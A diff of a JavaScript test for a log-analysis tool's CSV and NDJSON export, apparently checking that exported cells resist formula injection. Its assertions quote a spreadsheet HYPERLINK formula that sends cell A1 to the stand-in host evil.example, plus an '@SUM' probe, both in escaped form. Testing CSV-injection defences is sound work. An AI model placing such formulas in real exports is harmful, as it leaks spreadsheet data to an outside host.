@@ -9,7 +9,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { execFileSync } from 'node:child_process';
 import { suite, toInt, FIXTURES, cliPath, tempDir } from './harness.js';
-import { captureExports, exportVia } from './checks.js';
+import { captureExports, exportVia, showFinding } from './checks.js';
 
 const ctx = suite({ label: 'export' });
 const STORY = path.join(FIXTURES, 'stories', 'story_verify_takeover.ndjson');
@@ -44,15 +44,14 @@ test('export: CSV and NDJSON of every event equal the CLI\'s; of a selected find
       assert.equal(csvRows(all.text).length, toInt(s0.tableCount, 'table-count'), 'one CSV row per matching event');
       const evil = csvRows(all.text).find((r) => r.includes('HYPERLINK'));
       assert.ok(evil.includes(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), evil);
-      assert.ok(evil.endsWith(',\'@SUM(1+1)'), evil);
+      assert.ok(evil.endsWith(',"\'@SUM(1+1)"'), evil);
       assert.match(await app.tid('export-status').textContent(), /events exported$/);
 
       const allJson = await exportVia(app, 'export-ndjson');
       assert.match(allJson.name, /^authtrail-events-\d{8}T\d{6}Z\.ndjson$/);
       assert.equal(allJson.text, cliExport('--ndjson', files), 'the page\'s NDJSON differs from `authtrail export --ndjson` (plain and gzip files)');
 
-      const spray = app.page.locator('[data-testid="finding"][data-rule="password-spray"]');
-      if (!(await spray.isVisible())) await app.tid('findings-more').click();
+      const spray = await showFinding(app, 'password-spray');
       const s1 = await app.settleUi(() => spray.click(), (s) => toInt(s.tableCount, 'table-count') === 6, 'the spray finding selected');
       const shown = toInt(s1.tableCount, 'table-count');
 
